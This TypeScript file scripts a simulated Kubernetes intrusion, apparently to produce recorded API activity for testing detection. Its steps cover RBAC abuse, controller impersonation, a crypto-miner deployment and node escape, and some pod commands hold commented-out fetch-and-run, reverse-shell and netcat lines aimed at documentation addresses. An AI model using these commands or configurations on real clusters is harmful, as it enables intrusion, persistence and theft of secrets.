import { AGENTS, at, forwarded, until } from "./actors.ts";
import { DANA, ERIN, MALLORY } from "./people.ts";
import { binding, clusterRole, named, pod, podSpec, rule, workload } from "./setting.ts";
import { byKubectl, createdBy } from "./step.ts";
import type { Scene, Step } from "./step.ts";

/** Addresses for documentation (RFC 5737): nothing answers there. */
const HIDEOUT = "192.0.2.44";
const WEB = "system:serviceaccount:shop:web";
const CONTROLLER = "system:serviceaccount:kube-system:kube-controller";
const IMAGE = "docker.example/kubernetesio/kube-controller:1.0.1";

/** What people do around the steps of `REPORTED_DEEDS`: other habits than on every other recorded day. */
export const REPORTED_DAY: readonly (readonly [string, string])[] = [
  ["dev-alice", "-n team-a rollout history deployment/api"],
  ["dev-bob", "-n shop set resources deployment/web --limits=memory=256Mi"],
  ["dev-bob", "-n shop get pods -o wide --sort-by=.status.startTime"],
  ["dev-dana", "-n shop set env deployment/web FEATURE_CART=on"],
  ["dev-alice", "-n team-a autoscale deployment api --min=2 --max=4 --cpu=70%"],
  ["dev-alice", "-n team-a delete hpa api --ignore-not-found"],
  ["ops-erin", "drain node-3 --dry-run=server --ignore-daemonsets --force"],
  ["dev-bob", "-n shop create secret generic queue --from-literal=url=amqp://synthetic --dry-run=client -o yaml"],
  ["dev-bob", "-n shop rollout undo deployment/web"],
  ["dev-dana", "-n team-a logs deploy/api --since=10m"],
  ["ops-erin", "cordon node-3"],
  ["ops-erin", "uncordon node-3"],
  ["dev-alice", "-n team-a create token default --duration=10m"],
  ["dev-dana", "-n shop create cronjob report --image=registry.example/shop/report:1 --schedule=@daily -- ./report"],
  ["dev-dana", "-n shop delete cronjob report --ignore-not-found"],
  ["dev-bob", "-n shop exec deploy/web -- cat /app/version"],
  ["ops-erin", "get pods -A --field-selector=status.phase=Failed"],
  ["dev-alice", "-n team-a label deployment api tier=backend --overwrite"],
  ["dev-dana", "-n team-a get secrets"],
  ["ops-erin", "auth can-i --list --as=dev-alice -n shop"],
];

const create = createdBy(ERIN);
const createAsDana = createdBy(DANA);
const JSON_PATCH = ["--type", "json", "-p"] as const;

/**
 * An attack put together from what has been published about real intrusions and ways to stay in a cluster (RBAC Buster,
 * SCARLETEEL, TeamTNT, Dero miners, Sys:All, peirates, talks about persistence), not from anybody's rules.
 */
export const REPORTED_DEEDS: readonly Step[] = [
  // A pod of the shop was broken into; its token is used from elsewhere.
  {
    label: "token-of-the-pod",
    technique: "none",
    principal: "system:node",
    deeds: [],
    note: "what a kubelet does for every pod: it is sent with the certificate of the pod's node",
    run: takePodToken,
  },
  asWeb("token-looks-around", "T1613", async (send) => {
    await send("POST", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", {
      apiVersion: "authorization.k8s.io/v1",
      kind: "SelfSubjectRulesReview",
      spec: { namespace: "shop" },
    });
  }),
  asWeb("token-tries-everything", "T1613", async (send) => {
    const resources = ["secrets", "configmaps", "pods", "services", "serviceaccounts", "nodes", "persistentvolumes"];
    for (const resource of resources) await send("GET", `/api/v1/${resource}?limit=500`);
  }),
  asWeb("token-tries-metadata-pod", "T1552.005", async (send) => {
    await send(
      "POST",
      "/api/v1/namespaces/shop/pods",
      pod(
        "shop",
        "imds",
        podSpec("alpine", { command: ["sh", "-c", "# wget http://169.254.169.254/latest"] }, { hostNetwork: true }),
      ),
    );
  }),
  // Sys:All and RBAC Buster: somebody has given too much to everybody, and it is used.
  create(
    "reading-for-everybody",
    "T1098.006",
    "clusterrolebindings",
    binding("debug-view", "view", { kind: "Group", name: "system:authenticated" }),
  ),
  create(
    "secrets-for-unauthenticated",
    "T1098.006",
    ["clusterroles", "clusterrolebindings"],
    clusterRole("status-page", [rule("", "secrets,pods,namespaces", "get,list")]),
    binding("status-page", "status-page", { kind: "Group", name: "system:unauthenticated" }),
  ),
  byAnybody("anonymous-reads-secrets", "T1552.007", "/api/v1/secrets?limit=500"),
  byAnybody("anonymous-reads-pods", "T1613", "/api/v1/pods?limit=500"),
  {
    label: "outsider-reads-configuration",
    technique: "T1552.001",
    principal: MALLORY,
    deeds: [],
    run: ({ actors }) =>
      actors.send(actors.certificate(MALLORY), "GET", "/api/v1/configmaps?limit=500", {
        headers: forwarded(HIDEOUT, AGENTS.python),
      }),
  },
  create(
    "role-looks-like-a-controllers",
    "T1098.006",
    "clusterroles",
    clusterRole("system:controller:kube-controller", [
      rule("", "pods,nodes,secrets,serviceaccounts", "create,delete,get,list,patch,update"),
      rule("apps", "daemonsets,deployments", "create,delete,get,list,patch,update"),
      rule("rbac.authorization.k8s.io", "clusterrolebindings", "create"),
    ]),
  ),
  create("account-looks-like-a-controller", "T1036", "serviceaccounts", {
    ...named("ServiceAccount", "v1", "kube-controller", "kube-system"),
  }),
  create(
    "bound-like-a-controller",
    "T1098.006",
    "clusterrolebindings",
    binding("system:controller:kube-controller", "system:controller:kube-controller", {
      kind: "ServiceAccount",
      name: "kube-controller",
      namespace: "kube-system",
    }),
  ),
  create(
    "daemon-set-looks-like-a-controller",
    "T1610",
    "daemonsets",
    workload(
      "DaemonSet",
      "kube-system",
      "kube-controller",
      podSpec(IMAGE, {}, { serviceAccountName: "kube-controller" }),
    ),
  ),
  byKubectl(
    ["token-of-that-account", "T1528", ERIN],
    "create:serviceaccounts/token",
    "-n kube-system create token kube-controller --duration=4320h",
  ),
  {
    label: "that-account-from-outside",
    technique: "T1078.004",
    principal: CONTROLLER,
    deeds: [],
    note: "a token made just before by the administrator of the recording",
    run: async (scene) => {
      const token = { token: await scene.actors.freshToken("kube-system", "kube-controller") };
      const headers = forwarded(HIDEOUT, AGENTS.curl);
      return scene.actors.send(token, "GET", "/api/v1/namespaces/payments/secrets", { headers });
    },
  },
  // TeamTNT, Kinsing and Dero: what is run, and how it is hidden.
  createAsDana(
    "miner-by-environment",
    "T1496",
    "deployments",
    workload(
      "Deployment",
      "shop",
      "pause",
      podSpec("docker.example/pauseyyf/pause:latest", {
        env: [{ name: "POOL", value: "stratum+tcp://pool.example:3333" }],
      }),
      { replicas: 1 },
    ),
  ),
  createAsDana(
    "script-behind-a-hook",
    "T1059.004",
    "pods",
    pod(
      "shop",
      "warm",
      podSpec("registry.example/shop/web:1.4.2", {
        lifecycle: { postStart: { exec: { command: ["sh", "-c", "# curl -s http://198.51.100.9/k.sh | bash"] } } },
      }),
    ),
  ),
  createAsDana(
    "shell-back-by-bash",
    "T1059.004",
    "pods",
    pod("shop", "probe", podSpec("bash:5", { command: ["bash", "-c", "# bash -i >& /dev/tcp/198.51.100.9/443 0>&1"] })),
  ),
  createAsDana(
    "probe-runs-a-command",
    "T1059.004",
    "pods",
    pod(
      "shop",
      "healthy",
      podSpec("registry.example/shop/web:1.4.2", {
        livenessProbe: { exec: { command: ["sh", "-c", "# nc -e /bin/sh 198.51.100.9 443"] } },
      }),
    ),
  ),
  byKubectl(
    ["library-preloaded", "T1574.006", DANA],
    "patch:deployments",
    "-n shop set env deployment/web LD_PRELOAD=/tmp/.x.so",
  ),
  byKubectl(["sidecar-added", "T1525", DANA], "patch:deployments", [
    "-n",
    "shop",
    "patch",
    "deployment",
    "web",
    ...JSON_PATCH,
    '[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"log","image":"docker.example/nobody/fluent:1"}}]',
  ]),
  byKubectl(
    ["image-of-somebody-else", "T1525", DANA],
    "patch:deployments",
    "-n shop set image deployment/web main=docker.example/shop-web/web:1.4.2",
  ),
  createAsDana(
    "pod-as-mightier-account",
    "T1078.001",
    "pods",
    pod("shop", "release", podSpec("registry.example/shop/web:1.4.2", {}, { serviceAccountName: "deployer" })),
  ),
  ...onTheNode(),
];

/** Ways out to the node. */
function onTheNode(): readonly Step[] {
  return [
    byKubectl(
      ["debug-of-a-node", "T1611", ERIN],
      "create:pods",
      "debug node/node-1 --image=busybox --profile=sysadmin --attach=false -- sleep 1",
    ),
    create(
      "volume-of-the-node",
      "T1611",
      ["persistentvolumes", "persistentvolumeclaims"],
      {
        ...named("PersistentVolume", "v1", "scratch"),
        spec: {
          capacity: { storage: "1Gi" },
          accessModes: ["ReadWriteOnce"],
          storageClassName: "scratch",
          hostPath: { path: "/" },
        },
      },
      {
        ...named("PersistentVolumeClaim", "v1", "scratch", "sandbox"),
        spec: {
          accessModes: ["ReadWriteOnce"],
          storageClassName: "scratch",
          resources: { requests: { storage: "1Gi" } },
        },
      },
    ),
    create(
      "pod-on-a-chosen-node",
      "T1610",
      "pods",
      pod(
        "sandbox",
        "pinned",
        podSpec(
          "registry.example/load:1",
          {},
          { nodeName: "node-0", tolerations: [{ operator: "Exists" }], priorityClassName: "system-node-critical" },
        ),
      ),
    ),
    create(
      "pod-unconfined",
      "T1611",
      "pods",
      pod(
        "sandbox",
        "bare",
        podSpec("registry.example/load:1", {
          securityContext: {
            seccompProfile: { type: "Unconfined" },
            appArmorProfile: { type: "Unconfined" },
          },
        }),
      ),
    ),
    create(
      "pod-with-raw-devices",
      "T1611",
      "pods",
      pod(
        "sandbox",
        "caps",
        podSpec("registry.example/load:1", { securityContext: { capabilities: { add: ["SYS_MODULE", "BPF"] } } }),
      ),
    ),
    byKubectl(
      ["container-put-beside", "T1609", ERIN],
      "patch:pods/ephemeralcontainers",
      "-n payments debug db-0 --image=busybox --target=main --profile=sysadmin --attach=false -- sleep 1",
    ),
    {
      label: "kubelet-runs-by-proxy",
      technique: "T1609",
      principal: ERIN,
      deeds: [],
      note: "to a node that does not exist",
      run: ({ actors }) =>
        actors.send(actors.certificate(ERIN), "POST", "/api/v1/nodes/absent-node/proxy/run/payments/db-0/main?cmd=id"),
    },
    {
      label: "kubelet-checkpoint-by-proxy",
      technique: "T1005",
      principal: ERIN,
      deeds: [],
      note: "to a node that does not exist",
      run: ({ actors }) =>
        actors.send(actors.certificate(ERIN), "POST", "/api/v1/nodes/absent-node/proxy/checkpoint/payments/db-0/main"),
    },
  ];
}

async function takePodToken(scene: Scene): Promise<unknown> {
  const running = await until("a pod of the shop on its node", async () => {
    const list = await scene.actors.look("/api/v1/namespaces/shop/pods?labelSelector=app%3Dweb");
    const pods = (at(list, "items") as readonly unknown[] | undefined) ?? [];
    return pods.find((one) => at(one, "status", "phase") === "Running" && at(one, "spec", "nodeName") !== undefined);
  });
  const node = String(at(running, "spec", "nodeName"));
  scene.facts.set("node", node);
  const pod = { name: at(running, "metadata", "name"), uid: at(running, "metadata", "uid") };
  const answer = await scene.actors.send(
    scene.actors.certificate(`system:node:${node}`),
    "POST",
    "/api/v1/namespaces/shop/serviceaccounts/web/token",
    {
      headers: { "User-Agent": AGENTS.kubelet },
      body: {
        apiVersion: "authentication.k8s.io/v1",
        kind: "TokenRequest",
        spec: { expirationSeconds: 3607, boundObjectRef: { kind: "Pod", apiVersion: "v1", ...pod } },
      },
    },
  );
  scene.credentials.set("web-token", { token: String(at(answer.body, "status", "token")) });
  return answer;
}

type Send = (method: string, path: string, body?: unknown) => Promise<void>;

function asWeb(label: string, technique: string, deed: (send: Send) => Promise<void>): Step {
  return {
    label,
    technique,
    principal: WEB,
    deeds: [],
    note: "the pod's token, used through a proxy for an address that is neither the pod's nor the node's",
    run: ({ actors, credentials }) =>
      deed(async (method, path, body) => {
        await actors.send(credentials.get("web-token"), method, path, { headers: forwarded(HIDEOUT), body });
      }),
  };
}

function byAnybody(label: string, technique: string, path: string): Step {
  return {
    label,
    technique,
    principal: "system:anonymous",
    deeds: [],
    run: ({ actors }) => actors.send(undefined, "GET", path, { headers: forwarded(HIDEOUT, "Go-http-client/2.0") }),
  };
}
